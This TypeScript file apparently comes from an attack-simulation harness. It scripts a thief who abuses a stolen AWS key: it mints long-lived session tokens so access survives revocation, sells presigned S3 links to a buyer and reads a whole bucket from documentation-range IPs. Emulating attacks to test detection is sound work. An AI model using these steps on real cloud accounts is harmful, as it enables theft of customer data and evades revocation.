import { again, firstOpen } from "../adversary/again.ts";
import { readAll } from "../adversary/bucket-reader.ts";
import { once } from "../adversary/once.ts";
import { linkFollowers, signLinks } from "../adversary/presigned-links.ts";
import { credentialsFrom, type Credentials } from "../kit/aws.ts";
import type { Behaviour, Origin, Stage } from "../kit/stage.ts";
import type { Facts } from "./facts.ts";

/** The thief's machines, and the customers that its links were sold to (RFC 5737). */
const USER_AGENT = "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali";
export const LAIRS: readonly Origin[] = [
  { ip: "198.51.100.213", userAgent: USER_AGENT },
  { ip: "203.0.113.97", userAgent: USER_AGENT },
];
export const BUYER = { ip: "203.0.113.158" };

/** What each way was used for until the page went out. */
export const READ_BY = {
  key: ["exports/orders-2026-q2.csv", "exports/orders-2026-q3.csv"],
  session: ["exports/customers-2026-q2.csv"],
  links: ["exports/orders-2026-q3.csv", "exports/customers-2026-q3.csv"],
} as const;

const LONGEST_SESSION_SECONDS = 129_600;

/** All that the thief holds. */
export interface Loot {
  key: Credentials;
  /** Made from the key, and made anew as long as the key works. */
  session: Credentials;
  /** Links that were handed out. */
  links: readonly string[];
}

/** Takes a session, and signs links with the key and with the session. */
export async function rob(stage: Stage, key: Credentials, bucket: string): Promise<Loot> {
  const aws = stage.intruder(key, LAIRS[0]!);
  await aws.sts.getCallerIdentity({});
  await aws.s3.listObjectsV2({ Bucket: bucket });
  const session = await openSession(stage, key);
  const [first, second] = READ_BY.links;
  const links = [...signLinks(stage, key, bucket, [first]), ...signLinks(stage, session, bucket, [second])];
  return { key, session, links };
}

/** Reads by the key, by the session and by links, each as long as it can, and makes new what can be made new. */
export function thief({ dataBucket: bucket }: Facts, loot: Loot): Behaviour[] {
  let turn = 0;
  const wanted = (keys: readonly string[]): string => keys[turn++ % keys.length]!;
  return [
    again("stolen-key", 20, `GetObject with ${loot.key.accessKeyId}`, (stage) =>
      readFromAnywhere(stage, loot.key, bucket, wanted(READ_BY.key)),
    ),
    again("stolen-session", 25, "GetObject with a session made from the key", (stage) =>
      firstOpen([
        () => readFromAnywhere(stage, loot.session, bucket, wanted(READ_BY.session)),
        async () => {
          loot.session = await openSession(stage, loot.key);
          return readFromAnywhere(stage, loot.session, bucket, wanted(READ_BY.session));
        },
      ]),
    ),
    linkFollowers(30, BUYER, (stage) => [
      ...loot.links,
      ...signLinks(stage, loot.session, bucket, READ_BY.links),
    ]),
    once(
      "data-grab",
      300,
      async (stage) => {
        const aws = stage.intruder(loot.session, LAIRS[1]!);
        const bytes = await readAll(aws, bucket);
        return { gotThrough: true, what: `Everything in ${bucket} was read`, bytes };
      },
      `Read of everything in ${bucket}`,
    ),
  ];
}

const openSession = async (stage: Stage, key: Credentials): Promise<Credentials> =>
  firstOpen(
    LAIRS.map((lair) => async () => {
      const { sts } = stage.intruder(key, lair);
      const issued = await sts.getSessionToken({ DurationSeconds: LONGEST_SESSION_SECONDS });
      return credentialsFrom(issued.Credentials);
    }),
  );

const readFromAnywhere = (
  stage: Stage,
  credentials: Credentials,
  Bucket: string,
  Key: string,
): Promise<{ what: string; bytes: number }> =>
  firstOpen(
    LAIRS.map((lair) => async () => {
      const got = await stage.intruder(credentials, lair).s3.getObject({ Bucket, Key });
      return { what: `GetObject ${Key} with ${credentials.accessKeyId}`, bytes: got.ContentLength ?? 0 };
    }),
  );
